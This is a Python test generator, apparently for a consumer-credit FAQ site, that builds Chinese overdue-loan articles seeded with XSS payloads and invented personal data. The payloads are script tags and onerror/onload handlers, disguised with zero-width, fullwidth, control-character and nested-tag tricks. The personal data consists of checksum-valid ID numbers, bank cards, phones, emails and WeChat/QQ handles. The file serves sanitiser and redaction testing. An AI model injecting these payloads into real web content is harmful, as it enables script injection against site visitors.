#!/usr/bin/env python3
"""Hostile source corpus for creditfaq.

Written from the outside (black box): it only relies on the documented source
conventions (.txt / .md / .html articles about consumer-credit overdue
processes) and produces articles that the site should keep and publish, each
carrying a few XSS payloads or pieces of personal data.

    python tests/hostile/generate.py OUTDIR

writes the files into OUTDIR (meant to be copied into data/sources/), runs the
self-check and prints a summary table.  Import it by path and call
``generate()`` to get a :class:`Corpus`.

The module is pure and deterministic: standard library only, no randomness,
no clock.  Every call returns the same bytes.
"""


import base64
import html
import itertools
import json
import os
import re
import sys
import unicodedata
import urllib.parse
from collections import Counter
from dataclasses import dataclass

__all__ = [
    "Variant",
    "Corpus",
    "generate",
    "variant_sources",
    "PUBLIC_NUMBERS",
    "PRODUCTS",
]


# --------------------------------------------------------------------------
# public data model
# --------------------------------------------------------------------------


@dataclass(frozen=True)
class Variant:
    """One attack."""

    id: str  # short ascii slug, unique
    family: str  # "xss" | "pii"
    where: str  # title, heading, body, list-item, related-title, attribute, link, image, front-matter, head, filename
    fmt: str  # "txt" | "md" | "html"
    written: str  # exact string written into the source (or into the file name)
    needles: tuple[str, ...] = ()  # pii only: canonical values that must never be published


@dataclass(frozen=True)
class Corpus:
    files: dict[str, bytes]  # file name -> raw bytes, to be copied into data/sources/
    variants: tuple[Variant, ...]


PRODUCTS = ("花呗", "借呗", "信用卡", "美团月付", "京东白条", "微粒贷", "安逸花")

# Public service numbers: legitimate text, must stay publishable, never PII.
PUBLIC_NUMBERS = ("95188", "95555", "12363", "12378", "400-820-3366", "800-830-8008", "110")


# --------------------------------------------------------------------------
# invented personal data (valid-looking, deterministic)
# --------------------------------------------------------------------------

_ID_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)


def _id_check(s17: str) -> str:
    return "10X98765432"[sum(int(c) * w for c, w in zip(s17, _ID_WEIGHTS, strict=True)) % 11]


def _cn_id(area: str, birth: str, seq: str) -> str:
    s17 = area + birth + seq
    assert len(s17) == 17 and s17.isdigit()
    return s17 + _id_check(s17)


def _cn_id_x(area: str, birth: str, seq: int) -> str:
    """First ID number from seq upwards whose check character is X."""
    while True:
        n = _cn_id(area, birth, f"{seq:03d}")
        if n.endswith("X"):
            return n
        seq += 1


def _luhn(body: str) -> str:
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return body + str((10 - total % 10) % 10)


_FW = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


def _fw(s: str) -> str:
    return s.translate(_FW)


def _groups(d: str, sep: str, sizes: tuple[int, ...]) -> str:
    out, i = [], 0
    for n in sizes:
        out.append(d[i:i + n])
        i += n
    if i < len(d):
        out.append(d[i:])
    return sep.join(out)


def _g4(d: str, sep: str = " ") -> str:
    return sep.join(d[i:i + 4] for i in range(0, len(d), 4))


# mainland mobile numbers (11 digits, 13x-19x) -- all invented
PH = {
    "filename": "13912345678",
    "plain": "13817263540",
    "spaced": "13625487910",
    "double": "15736428095",
    "dots": "15022913746",
    "hyphen": "18677310294",
    "endash": "13579240681",
    "emdash": "15930682417",
    "fwhyphen": "17752039864",
    "u2010": "18244170935",
    "u2011": "19166302748",
    "slash": "14725803691",
    "zwsp": "13386429751",
    "fwdigits": "18952746013",
    "plus86": "13855667012",
    "0086": "15611223398",
    "paren86": "17098765432",
    "mixed": "15832467901",
    "title": "18811047263",
    "title_md": "18390527164",
    "title_html": "16625813047",
    "related": "13067781254",
    "attr_title": "13566778821",
    "attr_alt": "15109283746",
    "data_attr": "18523649170",
    "tel_html": "15900112233",
    "tel_md": "13722819056",
    "frontmatter": "13512349876",
    "heading": "13920468831",
    "related_html": "17612093358",
}

ID = {
    "plain": _cn_id("110105", "19880712", "583"),
    "spaced": _cn_id("310104", "19750326", "417"),
    "lower_x": _cn_id_x("440305", "19920415", 331),
    "fw": _cn_id("510107", "20010930", "062"),
    "attr": _cn_id("330106", "19850102", "274"),
    "image": _cn_id("420106", "19690818", "155"),
}

CARD = {
    "plain16": _luhn("622202100234567"),  # 16 digits
    "g4_19": _luhn("621700128834561902"),  # 19 digits
    "six_ten": _luhn("622848047712903"),  # 16 digits, written 6+10
    "hyphen16": _luhn("436742951038276"),  # 16 digits
    "g4_18": _luhn("62258801377064205"),  # 18 digits
}

EMAIL = {
    "plain": "zhangsan.debt@163.com",
    "fw_at": "lisi_2023@qq.com",
    "upper": "wangwu.loan@sina.com",
    "plus": "zhao.liu+cuishou@gmail.com",
    "angle": "chenqi1990@126.com",
    "mailto_html": "sunba_88@foxmail.com",
    "mailto_md": "zhoujiu.hz@yeah.net",
    "data_attr": "qianshi_law@139.com",
    "filename": "liuqiang.hk@163.com",
}

WX = {
    "colon": "zhang_san88",
    "wxid": "wxid_abc123xyz",
    "vx": "li_si_2024",
    "vxin": "wang5566aa",
    "jiawei": "qianduoduo_77",
    "jiav": "hk_zhou1987",
}

QQ = {
    "fwcolon": "2987654310",
    "qqhao": "83920571",
    "koukou": "2750391846",
    "group": "638291457",
}


# --------------------------------------------------------------------------
# benign article text (varied, all GBK-encodable)
# --------------------------------------------------------------------------

TITLES = (
    "{p}逾期后会怎样？催收流程全解析",
    "{p}逾期多久会上征信",
    "{p}逾期了怎么办，过来人的经验",
    "{p}逾期后的催收流程和应对方法",
    "{p}逾期一个月的真实经历",
    "{p}逾期被催收，这些权利你要知道",
    "{p}逾期还不上，如何和平台协商",
    "{p}逾期三天会被打电话吗",
    "{p}逾期的罚息和征信影响",
    "{p}逾期半年后的处理经过",
    "{p}逾期会不会被起诉",
    "{p}逾期后催收找家人怎么办",
)

# one short, file-specific story per article so that no two sources look alike
STORY_WHO = ("我", "我表哥", "同事小李", "一位读者", "我朋友", "邻居家的儿子", "一个网友", "我大学同学")
STORY_AMOUNT = ("1800", "3260", "5400", "760", "12000", "2450", "8900", "4100", "650", "15300", "3980")
STORY_REASON = ("公司拖欠工资", "突然生病住院", "做生意周转不开", "忘记设置自动还款",
                "换工作期间没有收入", "家里装修花销太大", "店铺停业了两个月", "同时欠了好几个平台")
STORY_DAYS = ("3", "12", "25", "40", "67", "95", "130", "18", "7")
STORY_OUTCOME = (
    "后来和客服协商分了六期，才慢慢还清。",
    "最后找家人借钱一次性还上了，征信上留下了一条记录。",
    "跟平台申请了延期还款，罚息减免了一部分。",
    "还清之后要等五年，征信上的记录才会消失。",
    "现在每个月按时还款，额度也恢复了一些。",
    "期间催收电话打到了单位，投诉之后才停下来。",
    "至今还在和平台沟通还款方案。",
)

INTROS = (
    "最近后台收到不少留言，说自己的{p}出现了逾期，不知道接下来会发生什么。本文结合平台公开的规则，整理了逾期后的常见处理流程。",
    "{p}用起来很方便，但如果到了还款日没有按时还款，就会产生逾期记录。下面把逾期之后的几个阶段讲清楚，供大家参考。",
    "很多人第一次遇到{p}逾期都会很慌。其实平台的催收流程是有规律的，弄明白之后更容易和平台协商。",
    "本文根据多位用户的亲身经历整理，介绍{p}逾期后平台一般怎么处理，以及逾期对个人征信有什么影响。",
    "{p}逾期以后，罚息、催收和征信是大家最关心的三件事，我们一件一件来说。",
    "不少借款人因为收入不稳定，{p}的账单没能按时还上。逾期本身并不可怕，关键是了解流程并尽快处理。",
    "如果{p}已经逾期，先别急着借新还旧。这篇文章按时间顺序讲讲逾期后通常会经历哪些阶段。",
)

HEADINGS = (
    ("一、{p}逾期后的催收流程", "二、逾期对征信的影响", "三、借款人享有的合法权益"),
    ("一、逾期之后会经历哪些阶段", "二、{p}逾期会不会上征信", "三、遇到暴力催收怎么办"),
    ("一、平台的催收步骤", "二、征信记录会保留多久", "三、催收过程中的合法权益"),
)
EXTRA_HEADING_NUM = ("四", "五", "六", "七")
EXTRA_HEADING_TEXT = "还款时需要注意什么"
EXTRA_HEADING_PARA = "还款请认准官方App或银行柜台，不要把钱转到任何个人账户，以免上当受骗。"

STAGES = (
    (
        ("短信提醒", "逾期第1天起，平台会发短信提醒还款。"),
        ("短信提醒", "逾期当天系统会自动推送短信和App消息，提醒尽快还款。"),
        ("消息通知", "到期日次日起，App首页会弹出逾期提示，并每天发送还款短信。"),
    ),
    (
        ("电话催收", "逾期3天后会有客服打电话。"),
        ("电话催收", "逾期一周左右，催收专员会打电话了解还款计划。"),
        ("人工外呼", "逾期第5天起，客服每天会拨打借款人本人电话提醒还款。"),
    ),
    (
        ("委外催收", "逾期超过30天，部分平台会把账单交给第三方催收机构。"),
        ("冻结额度", "逾期期间账户额度会被冻结，不能继续借款或消费。"),
        ("罚息计算", "逾期后按日计收罚息，一般是未还金额的万分之五。"),
    ),
    (
        ("法务催收", "长期逾期不还，平台可能发送律师函，甚至向法院起诉。"),
        ("上门核实", "逾期90天以上且金额较大时，可能有工作人员上门核实情况。"),
        ("诉讼阶段", "逾期半年以上仍不还款，平台有可能提起诉讼并申请强制执行。"),
    ),
)

ITEM_POOL = (
    ("上门催收", "逾期两个月后，可能有工作人员上门核实情况。"),
    ("第三方催收", "逾期较久的账单会转交外包公司处理。"),
    ("协商分期", "借款人可以主动申请把欠款分成若干期偿还。"),
    ("律师函", "逾期三个月以上，可能收到律师事务所寄出的函件。"),
    ("停息挂账", "部分银行允许困难用户申请停止计息、分期还本。"),
)

CREDIT = (
    "逾期超过30天，记录很可能被报送到征信系统。",
    "{p}的逾期信息会报送央行征信中心，在个人信用报告里保留五年。",
    "偶尔逾期一两天并马上还清，一般不会留下严重污点，但连续逾期会影响以后申请房贷和车贷。",
    "征信上的逾期记录从欠款结清之日起保存五年，到期后自动删除。",
    "如果认为征信记录有误，可以向征信中心或报送机构提出异议申请。",
    "连续三个月逾期或者累计六次逾期，银行审批贷款时通常会认定为信用不良。",
)

RIGHTS = (
    "催收人员不得骚扰借款人的亲友和同事。",
    "催收过程中不得使用暴力、威胁或侮辱性的语言。",
    "催收电话不应在晚上九点到早上八点之间拨打。",
    "借款人有权要求平台出示完整的欠款明细，核对罚息是否合理。",
    "平台不得向无关第三方透露借款人的个人信息和欠款情况。",
    "遇到暴力催收可以保留通话录音和短信截图，向监管部门投诉。",
)

ADVICE = (
    "建议逾期后第一时间联系官方客服说明情况，申请延期或分期还款。",
    "不要轻信所谓的“征信修复”中介，征信记录只有在确有错误时才能更正。",
    "欠款还清后，可以到征信中心查询个人信用报告，确认记录已经更新。",
    "量入为出、按时还款，才是保护个人征信最好的办法。",
)

PUB_ALIPAY = "有疑问可以拨打支付宝官方客服电话95188咨询。"
PUB_CMB = "招商银行信用卡用户可以拨打95555联系客服申请分期。"
PUB_PBOC = "对征信记录有异议，也可以拨打人民银行金融消费权益保护热线12363。"
PUB_CBIRC = "遇到违规催收，可以拨打金融监管部门的消费者投诉热线12378。"
PUB_400 = "请认准平台官方客服热线400-820-3366，不要相信陌生号码。"
PUB_800 = "部分银行还开通了800-830-8008免费热线，座机可以直接拨打。"
PUB_110 = "如果遭到人身威胁，请立即拨打110报警。"

RELATED = (
    "{p}逾期一天会上征信吗",
    "{p}逾期三个月会被起诉吗",
    "{p}协商还款的正确方法",
    "{p}逾期后还能继续使用吗",
    "{p}逾期罚息是怎么计算的",
    "{p}催收打电话给家人怎么办",
    "{p}还清后征信多久能恢复",
    "{p}逾期了可以申请停息挂账吗",
)

LEADS = (
    "有读者在评论区贴出了收到的催收短信：{x}",
    "平台客服的回复原文如下：{x} 仅供参考。",
    "一位网友留言说：{x}",
    "以下内容摘自用户投稿：{x}",
    "{x} 这是某个“代还群”里流传的话术，请注意甄别。",
    "有借款人反映，催收短信里出现了这样一段内容：{x}",
    "整理资料时看到一条用户反馈：{x}",
)

DATES = (
    "2024-05-01", "2024-03-18", "2023-11-02", "2024-01-09",
    "2023-08-27", "2024-06-15", "2023-12-21", "2024-02-06",
)

_WHERE = {
    "title": "title",
    "heading": "heading",
    "body": "body",
    "block": "body",
    "item": "list-item",
    "related": "related-title",
    "related_link": "link",
    "head": "head",
    "fm": "front-matter",
    "body_tag": "attribute",
    "meta_desc": "attribute",
    "filename": "filename",
}


# --------------------------------------------------------------------------
# one source file
# --------------------------------------------------------------------------


class _Src:
    def __init__(self, name: str, product: str, seed: int, enc: str = "utf-8",
                 layout: int | None = None, fm: bool = False, title_k: int = 0):
        ext = name.rsplit(".", 1)[-1]
        self.name = name
        self.fmt = {"txt": "txt", "md": "md", "html": "html"}[ext]
        self.product = product
        self.seed = seed
        self.enc = enc  # "utf-8" | "utf-8-sig" | "gbk"
        self.layout = seed % 4 if layout is None else layout
        self.fm = fm
        self.date = DATES[(seed * 3) % len(DATES)]
        self.base_title = TITLES[title_k % len(TITLES)].format(p=product)
        self.title_extra = ""
        self.heading_extra: list[str] = []
        self.bodies: list[str] = []
        self.items: list[str] = []
        self.related: list[tuple[str, str | None, str]] = []
        self.head: list[str] = []
        self.blocks: list[str] = []
        self.fm_lines: list[str] = []
        self.body_attrs = ""
        self.meta_desc: str | None = None
        self.variants: list[Variant] = []

    # -- placing payloads ---------------------------------------------------
    def put(self, slot: str, x, vid: str, *, family: str = "xss", where: str | None = None,
            written: str | None = None, needles: tuple[str, ...] = (), raw: bool = False) -> "_Src":
        if written is None:
            written = x if isinstance(x, str) else x[1]
        placed: str
        if slot == "title":
            self.title_extra += x
            placed = x
        elif slot == "heading":
            self.heading_extra.append(x)
            placed = x
        elif slot == "body":
            placed = x if raw else LEADS[(self.seed + len(self.bodies)) % len(LEADS)].format(x=x)
            self.bodies.append(placed)
        elif slot == "block":
            self.blocks.append(x)
            placed = x
        elif slot == "item":
            if raw:
                placed = x
            else:
                lab, desc = ITEM_POOL[(self.seed + len(self.items)) % len(ITEM_POOL)]
                placed = f"{lab}：{desc}{x}"
            self.items.append(placed)
        elif slot == "related":
            if raw:
                placed = x
            else:
                base = RELATED[(self.seed + len(self.related) + 3) % len(RELATED)]
                placed = base.format(p=self.product) + x
            self.related.append((placed, None, ""))
        elif slot == "related_link":
            assert self.fmt != "txt"
            text, href, attrs = x
            self.related.append((text, href, attrs))
            placed = (f"[{text}]({href})" if self.fmt == "md"
                      else f'<a href="{href}"{attrs}>{text}</a>')
        elif slot == "head":
            assert self.fmt == "html"
            self.head.append(x)
            placed = x
        elif slot == "fm":
            assert self.fmt == "md"
            self.fm = True
            self.fm_lines.append(x)
            placed = x
        elif slot == "body_tag":
            assert self.fmt == "html"
            self.body_attrs = x
            placed = f"<body{x}>"
        elif slot == "meta_desc":
            assert self.fmt == "html"
            self.meta_desc = x
            placed = x
        elif slot == "filename":
            placed = self.name
        else:  # pragma: no cover
            raise ValueError(slot)
        assert written in placed, (vid, written, placed)
        self.variants.append(Variant(vid, family, where or _WHERE[slot], self.fmt, written, tuple(needles)))
        return self

    def pii(self, slot: str, x, vid: str, written: str, needle: str, **kw) -> "_Src":
        return self.put(slot, x, vid, family="pii", written=written, needles=(needle,), **kw)

    # -- pieces of the article ---------------------------------------------
    @property
    def title(self) -> str:
        return self.base_title + self.title_extra

    def _p(self, s: str) -> str:
        return s.format(p=self.product)

    def intro(self) -> str:
        return self._p(INTROS[self.seed % len(INTROS)])

    def story(self) -> str:
        i = self.seed
        return (f"{STORY_WHO[i % 8]}在{(i * 5) % 12 + 1}月用{self.product}花了{STORY_AMOUNT[(i * 3) % 11]}元，"
                f"因为{STORY_REASON[(i * 3 + 1) % 8]}，逾期了{STORY_DAYS[(i * 2) % 9]}天。"
                f"{STORY_OUTCOME[(i * 4) % 7]}")

    def headings(self) -> list[str]:
        hs = [self._p(h) for h in HEADINGS[self.seed % len(HEADINGS)]]
        extra: list[str] = []
        for i, e in enumerate(self.heading_extra):
            if i < 3:
                hs[i] += e
            else:
                extra.append(f"{EXTRA_HEADING_NUM[i - 3]}、{EXTRA_HEADING_TEXT}{e}")
        return hs + extra

    def stages(self) -> list[tuple[str, str]]:
        return [STAGES[k][(self.seed // (k + 1) + k) % 3] for k in range(4)]

    def credit(self) -> str:
        a = CREDIT[self.seed % len(CREDIT)]
        b = CREDIT[(self.seed + 2) % len(CREDIT)]
        return self._p(a + b)

    def publics(self) -> list[str]:
        if self.product in ("花呗", "借呗"):
            first = PUB_ALIPAY
        elif self.product == "信用卡":
            first = PUB_CMB
        else:
            first = (PUB_400, PUB_800)[self.seed % 2]
        second = (PUB_PBOC, PUB_CBIRC, PUB_110)[self.seed % 3]
        return [first, second]

    def rights(self) -> list[str]:
        combos = list(itertools.combinations(range(len(RIGHTS)), 3))
        return [RIGHTS[k] for k in combos[(self.seed * 7) % len(combos)]]

    def advice(self) -> str:
        return ADVICE[self.seed % len(ADVICE)]

    def related_all(self) -> list[tuple[str, str, str]]:
        base = [(RELATED[(self.seed + k) % len(RELATED)].format(p=self.product), None, "") for k in range(3)]
        out = []
        for k, (text, href, attrs) in enumerate(base + self.related):
            if href is None:
                href = (f"/article/{2000 + self.seed * 10 + k}.html" if self.fmt == "html"
                        else f"https://www.example.com/article/{2000 + self.seed * 10 + k}.html")
            out.append((text, href, attrs))
        return out

    def _split_bodies(self) -> tuple[list[str], list[str], list[str]]:
        return self.bodies[0::3], self.bodies[1::3], self.bodies[2::3]

    # -- renderers ----------------------------------------------------------
    def render(self) -> str:
        return {"txt": self._txt, "md": self._md, "html": self._html}[self.fmt]()

    def _txt(self) -> str:
        b0, b1, b2 = self._split_bodies()
        hs = self.headings()
        st = self.stages()
        L = [self.title, f"发布时间：{self.date}", self.intro(), self.story(), *b0, hs[0]]
        L += [f"{i}. {lab}：{desc}" for i, (lab, desc) in enumerate(st, 1)]
        L += [f"{i}. {it}" for i, it in enumerate(self.items, len(st) + 1)]
        L += self.blocks
        L += [hs[1], self.credit(), *self.publics(), *b1]
        L += [hs[2], *self.rights(), *b2]
        for h in hs[3:]:
            L += [h, EXTRA_HEADING_PARA]
        L.append(self.advice())
        L.append("相关推荐")
        L += [t for t, _, _ in self.related_all()]
        return "\n".join(L) + "\n"

    def _md(self) -> str:
        b0, b1, b2 = self._split_bodies()
        hs = self.headings()
        st = self.stages()
        out: list[str] = []
        if self.fm:
            fm = ["---"]
            if not any(line.startswith("title:") for line in self.fm_lines):
                fm.append("title: " + _yaml_quote(self.title))
            fm.append(f"date: {self.date}")
            fm += self.fm_lines
            fm.append("---")
            out.append("\n".join(fm))
        out.append(f"# {self.title if not any(l.startswith('title:') for l in self.fm_lines) else self.base_title}")
        out.append(f"发布时间：{self.date}")
        out.append(self.intro())
        out.append(self.story())
        out += b0
        out.append(f"## {hs[0]}")
        lst = [f"{i}. {lab}：{desc}" for i, (lab, desc) in enumerate(st, 1)]
        lst += [f"{i}. {it}" for i, it in enumerate(self.items, len(st) + 1)]
        out.append("\n".join(lst))
        out += self.blocks
        out.append(f"## {hs[1]}")
        out += [self.credit(), *self.publics(), *b1]
        out.append(f"## {hs[2]}")
        out.append("\n".join(f"- {r}" for r in self.rights()))
        out += b2
        for h in hs[3:]:
            out += [f"## {h}", EXTRA_HEADING_PARA]
        out.append(self.advice())
        out.append("## 相关推荐")
        out.append("\n".join(f"- [{t}]({h})" for t, h, _ in self.related_all()))
        return "\n\n".join(out) + "\n"

    def _html(self) -> str:
        b0, b1, b2 = self._split_bodies()
        hs = self.headings()
        st = self.stages()
        lay = self.layout
        htag = "h3" if lay == 1 else "h2"
        ltag = "ol" if lay in (0, 2) else "ul"
        if lay == 3:
            stage_li = [f"<li><strong>{lab}</strong>：{desc}</li>" for lab, desc in st]
        else:
            stage_li = [f"<li>{lab}：{desc}</li>" for lab, desc in st]
        stage_li += [f"<li>{it}</li>" for it in self.items]
        c: list[str] = [f"<p>{self.intro()}</p>", f"<p>{self.story()}</p>"]
        c += [f"<p>{b}</p>" for b in b0]
        c.append(f"<{htag}>{hs[0]}</{htag}>")
        c.append(f"<{ltag}>\n" + "\n".join(stage_li) + f"\n</{ltag}>")
        c += self.blocks
        c.append(f"<{htag}>{hs[1]}</{htag}>")
        c.append(f"<p>{self.credit()}</p>")
        c += [f"<p>{p}</p>" for p in self.publics()]
        c += [f"<p>{b}</p>" for b in b1]
        c.append(f"<{htag}>{hs[2]}</{htag}>")
        c.append("<ul>\n" + "\n".join(f"<li>{r}</li>" for r in self.rights()) + "\n</ul>")
        c += [f"<p>{b}</p>" for b in b2]
        for h in hs[3:]:
            c += [f"<{htag}>{h}</{htag}>", f"<p>{EXTRA_HEADING_PARA}</p>"]
        c.append(f"<p>{self.advice()}</p>")
        content = "\n".join(c)
        rel = "\n".join(f'<li><a href="{h}"{a}>{t}</a></li>' for t, h, a in self.related_all())

        cs = "gbk" if self.enc == "gbk" else "utf-8"
        desc = self.meta_desc if self.meta_desc is not None else html.escape(f"{self.title}。{self.intro()}", quote=True)
        head = [
            '<meta charset="%s">' % cs,
            '<meta name="viewport" content="width=device-width, initial-scale=1">',
            f"<title>{self.title} - 信用知识网</title>",
            f'<meta name="description" content="{desc}">',
            f'<meta property="og:title" content="{html.escape(self.title, quote=True)}">',
            '<meta property="og:type" content="article">',
            *self.head,
        ]
        title = self.title
        date = self.date
        if lay == 0:
            body = (
                '<header><a class="logo" href="/">信用知识网</a><nav><a href="/">首页</a> | '
                '<a href="/xyk/">信用卡</a> | <a href="/wd/">网贷</a> | <a href="/zx/">征信</a></nav></header>\n'
                f"<article>\n<h1>{title}</h1>\n<p class=\"meta\">发布时间：{date}　来源：网友投稿</p>\n{content}\n</article>\n"
                f"<aside><h3>相关推荐</h3><ul>\n{rel}\n</ul></aside>\n"
                "<footer><p>信用知识网 版权所有 ｜ 本站内容仅供参考</p></footer>"
            )
        elif lay == 1:
            body = (
                '<div id="wrap">\n<div class="top"><div class="logo">信用知识网</div><div class="nav">'
                '<a href="/">首页</a><a href="/huabei/">花呗</a><a href="/xinyongka/">信用卡</a></div></div>\n'
                '<div class="content">\n<div class="post">\n'
                f'<h1 class="post-title">{title}</h1>\n'
                f'<div class="info"><span>发布时间：{date}</span><span>阅读：1286</span></div>\n'
                f'<div class="post-body">\n{content}\n</div>\n</div>\n</div>\n'
                f'<div class="sidebar"><div class="related"><h3>相关推荐</h3><ul>\n{rel}\n</ul></div></div>\n'
                '<div class="footer">关于我们 ｜ 联系我们 ｜ 免责声明</div>\n</div>'
            )
        elif lay == 2:
            body = (
                '<header class="site-header"><h2 class="site-name">借贷百科</h2></header>\n<main>\n'
                f'<section class="article">\n<h1>{title}</h1>\n<time datetime="{date}">发布时间：{date}</time>\n'
                f"{content}\n</section>\n"
                f'<section class="related"><h2>相关推荐</h2><ol>\n{rel}\n</ol></section>\n</main>\n'
                "<footer>借贷百科 ｜ 理性借贷，按时还款</footer>"
            )
        else:
            body = (
                '<div class="container"><div class="row">\n<div class="col-main"><article class="entry">\n'
                f'<header class="entry-header"><h1 class="entry-title">{title}</h1>'
                f'<div class="entry-meta">发布时间：{date}</div></header>\n'
                f'<div class="entry-content">\n{content}\n</div></article></div>\n'
                f'<aside class="col-side"><div class="widget"><h3>相关推荐</h3><ul>\n{rel}\n</ul></div></aside>\n'
                '</div></div>\n<footer class="site-footer"><p>消费信贷知识分享</p></footer>'
            )
        return (
            '<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n' + "\n".join(head) + "\n</head>\n"
            + f"<body{self.body_attrs}>\n{body}\n</body>\n</html>\n"
        )

    def encode(self) -> bytes:
        text = self.render()
        if self.enc == "gbk":
            text.encode("gbk")  # must be representable in plain GBK
            return text.encode("gb18030")
        if self.enc == "utf-8-sig":
            return text.encode("utf-8-sig")
        return text.encode("utf-8")


def _yaml_quote(s: str) -> str:
    """A YAML double-quoted scalar (JSON string syntax, plus escapes for the
    characters PyYAML refuses or treats as line breaks)."""
    q = json.dumps(s, ensure_ascii=False)
    return re.sub(r"[\x7f-\x9f\u2028\u2029]", lambda m: "\\u%04x" % ord(m.group()), q)


# --------------------------------------------------------------------------
# the corpus
# --------------------------------------------------------------------------

B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
ENT_JAVASCRIPT = "".join(f"&#{ord(c)};" for c in "javascript:")


def _sources() -> list[_Src]:
    S: list[_Src] = []

    def new(name: str, product: str, _seed: int, **k) -> _Src:
        # variation is driven by the position in the corpus (unique), and the
        # title template by how many files of the same product came before,
        # so that no two sources share a title or look alike.
        k.setdefault("title_k", sum(1 for x in S if x.product == product))
        s = _Src(name, product, len(S), **k)
        S.append(s)
        return s

    # ======================================================================
    # .txt
    # ======================================================================
    s = new("huabei-yuqi-cuishou-liucheng.txt", "花呗", 0)
    s.put("title", "<script>alert(1)</script>", "txt-title-script")
    s.put("body", "<img src=x onerror=alert(1)>", "txt-body-img-onerror")
    s.put("related", "<svg onload=alert(1)>", "txt-related-svg-onload")
    s.pii("body", f"催收员留了一个回拨号码{PH['plain']}，说不回电就联系家人，这种做法并不合规。",
          "pii-phone-plain-txt", PH["plain"], PH["plain"], raw=True)

    s = new("jiebei-cuishou-dianhua.txt", "借呗", 1, enc="gbk")
    s.put("title", '"><script>alert(1)</script>', "txt-title-quote-script")
    s.put("heading", "<details open ontoggle=alert(1)>", "txt-heading-details-ontoggle")
    s.put("item", "<marquee onstart=alert(1)>", "txt-item-marquee-onstart")
    w = " ".join(PH["spaced"])
    s.pii("body", f"对方发来的号码写成 {w} 这种格式，说是为了躲避平台拦截。", "pii-phone-spaced-digits", w, PH["spaced"], raw=True)
    w = f"QQ：{QQ['fwcolon']}"
    s.pii("body", f"还有人在评论区留下{w}，自称可以内部协商减免，这类信息不要相信。", "pii-qq-colon", w, QQ["fwcolon"], raw=True)

    s = new(f"借款人{PH['filename']}的经历.txt", "借呗", 2)
    s.pii("filename", None, "pii-phone-filename", PH["filename"], PH["filename"])
    s.put("body", "&lt;script&gt;alert(1)&lt;/script&gt;", "txt-ent-lt-script")
    s.put("body", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "txt-ent-double-script")
    s.put("heading", "&#60;script&#62;alert(1)&#60;/script&#62;", "txt-ent-decimal-heading")
    w = f"VX：{WX['vx']}"
    s.pii("body", f"有中介在贴吧留言“{w}，专业处理借呗逾期”，其实就是收费骗局。", "pii-wechat-vx", w, WX["vx"], raw=True)

    s = new("xinyongka-yuqi-zhengxin.txt", "信用卡", 3, enc="utf-8-sig")
    s.put("title", "<\u200bscript>alert(1)</script>", "zw-200b-script-title")
    s.put("body", "<scr\u200cipt>alert(1)</scr\u200cipt>", "zw-200c-script-body")
    s.put("item", "<img\u200d src=x onerror=alert(1)>", "zw-200d-img-item")
    s.put("related", "<svg\u2060onload=alert(1)>", "zw-2060-svg-related")
    w = _groups(PH["zwsp"], "\u200b", (3, 4, 4))
    s.pii("body", f"银行外包的催收员用的号码是{w}，每天打好几次。", "pii-phone-zwsp-groups", w, PH["zwsp"], raw=True)

    s = new("meituan-yuefu-yuqi-houguo.txt", "美团月付", 4)
    s.put("body", "<img src=x\x0conerror=alert(1)>", "ctl-formfeed-img-body")
    s.put("heading", "<\u202escript>alert(1)</script>", "bidi-202e-script-heading")
    s.put("related", "<scr\x7fipt>alert(1)</script>", "ctl-del-script-related")
    s.put("body", "<\ufeffscript>alert(1)</script>", "zw-feff-script-body")
    w = "lisi_2023＠qq.com"
    s.pii("body", f"催收方要求把收入证明发到邮箱{w}，这并不是平台的官方邮箱。", "pii-email-fullwidth-at", w, EMAIL["fw_at"], raw=True)

    s = new("jingdong-baitiao-fangxi.txt", "京东白条", 5)
    s.put("body", "<script\x00>alert(1)</script>", "ctl-nul-script-body")
    s.put("item", "<\x1fscript>alert(1)</script>", "ctl-us-script-item")
    s.put("related", "<scr\u00adipt>alert(1)</script>", "shy-script-related")
    w = "  ".join(PH["double"])
    s.pii("body", f"短信落款写着联系电话 {w} ，数字之间故意留了空格。", "pii-phone-double-spaces", w, PH["double"], raw=True)

    s = new("weilidai-yuqi-jilu.txt", "微粒贷", 5, enc="gbk")
    s.put("title", "＜script＞alert(1)＜／script＞", "fw-script-title")
    s.put("body", "＜ｉｍｇ　ｓｒｃ＝ｘ　ｏｎｅｒｒｏｒ＝ａｌｅｒｔ（１）＞", "fw-img-body")
    s.put("related", "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞", "fw-all-script-related")
    w = _fw(PH["fwdigits"])
    s.pii("body", f"催收短信让我回电{w}，号码是全角数字写的。", "pii-phone-fullwidth-digits", w, PH["fwdigits"], raw=True)
    w = _fw(ID["fw"])
    s.pii("body", f"对方甚至在短信里写出了我的身份证号{w}，这属于泄露个人信息。", "pii-id-fullwidth", w, ID["fw"], raw=True)

    s = new("anyihua-yuqi-jingli.txt", "安逸花", 6)
    s.put("body", "<scr<script>ipt>alert(1)</scr</script>ipt>", "nest-scr-script-body")
    s.put("item", "<<script>script>alert(1)<</script>/script>", "nest-double-lt-item")
    s.put("body", "有人把这段代码发在评论区，结果页面排版全乱了<img src=x onerror=alert(1)//",
          "unclosed-img-body", written="<img src=x onerror=alert(1)//", raw=True)
    w = EMAIL["plain"]
    s.pii("body", f"我当时把情况说明发到了{w}，后来才知道那是催收员的私人邮箱。", "pii-email-plain", w, w, raw=True)
    w = _groups(PH["dots"], ".", (3, 4, 4))
    s.pii("body", f"另一条短信的回拨号码写成{w}，用点号隔开。", "pii-phone-dots", w, PH["dots"], raw=True)

    s = new("huabei-yuqi-shangzhengxin.txt", "花呗", 1)
    s.put("title", "</script><script>alert(1)</script>", "json-close-script-title")
    s.put("related", "<!--<script>alert(1)</script>-->", "json-comment-script-related")
    s.put("body", "\u2028</script><script>alert(1)</script>\u2029", "json-u2028-script-body")
    w = ID["plain"]
    s.pii("body", f"有网友把自己的身份证号{w}直接贴出来求助，这样做风险很大。", "pii-id-plain", w, w, raw=True)
    w = CARD["plain16"]
    s.pii("body", f"还有人晒出了还款银行卡号{w}，请大家注意保护隐私。", "pii-card-plain", w, w, raw=True)

